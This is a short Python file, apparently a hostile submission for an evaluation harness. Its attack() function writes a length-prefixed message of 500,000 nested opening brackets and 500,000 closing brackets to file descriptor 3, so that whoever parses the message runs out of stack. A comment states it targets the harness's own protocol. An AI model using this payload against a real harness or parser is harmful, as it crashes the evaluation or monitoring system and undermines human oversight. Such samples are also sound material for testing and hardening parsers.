"""Sends a message nested so deeply that whoever reads it runs out of stack."""

CONTROL = "it speaks the harness's own language"

import os
import struct



def attack(*args, **kwargs):
    head = b"[" * 500_000 + b"]" * 500_000
    os.write(3, struct.pack("<IQ", len(head), 0))
    while head:
        head = head[os.write(3, head) :]
    return 12345.5
